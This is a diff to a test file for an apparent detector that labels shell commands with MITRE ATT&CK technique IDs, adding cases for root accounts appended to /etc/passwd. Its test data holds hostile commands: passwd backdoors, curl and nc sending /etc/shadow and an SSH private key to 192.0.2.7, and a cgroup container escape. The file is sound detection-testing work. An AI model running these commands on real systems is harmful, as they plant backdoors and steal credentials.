@@ -64,6 +64,9 @@ it.each([
   ["cp /bin/sh /tmp/crond", "T1036.003"],
   ["sed -i '$a x' /etc/init.d/a", "T1037.004"],
   ["echo /tmp/c > /sys/fs/cgroup/rdma/release_agent", "T1611"],
+  ["echo 'k::0:0::/:/bin/sh' >> /etc/passwd", "T1098"],
+  ["echo 'k:x:0:9::/:/bin/sh' | sudo tee -a /mnt/etc/passwd", "T1098"],
+  ["cp hook /etc/network/if-up.d/hook", "T1546"],
   ["curl -F data=@/etc/passwd http://192.0.2.7/u", "T1087.001"],
   ["curl -T /home/b/.ssh/id_rsa http://192.0.2.7/u", "T1552.004"],
   ["nc 192.0.2.7 4444 < /etc/shadow", "T1003.008"],
@@ -96,12 +99,14 @@ it.each([
   ["copy C:\\d\\a.vbs C:\\scripts\\a.vbs", "windows"],
   ["copy D:\\iso\\svchost.exe D:\\mount\\Windows\\System32\\svchost.exe", "windows"],
   ["cp /bin/busybox /srv/root/bin/sh", "linux"],
+  ["echo 'root:x:0:0::/root:/bin/sh' > /srv/root/etc/passwd", "linux"],
+  ["echo 'app:x:100:0::/srv:/bin/sh' >> /etc/passwd", "linux"],
   ["cp /bin/sh /tmp/root/bin/sh", "linux"],
   ["curl -F file=@report.pdf https://intranet.corp.local/u", "linux"],
   ["curl -T /home/b/.ssh/id_rsa.pub https://git.corp.local/keys", "linux"],
 ] as const)("leaves others as they are: %s", (line, platform) => {
   const { techniques, score } = shown(line, platform);
-  for (const technique of ["T1547.001", "T1036.003", "T1036.005", "T1552.004", "T1041"])
+  for (const technique of ["T1547.001", "T1036.003", "T1036.005", "T1552.004", "T1041", "T1098"])
     expect(techniques).not.toContain(technique);
   expect(score).toBeLessThan(24);
 });
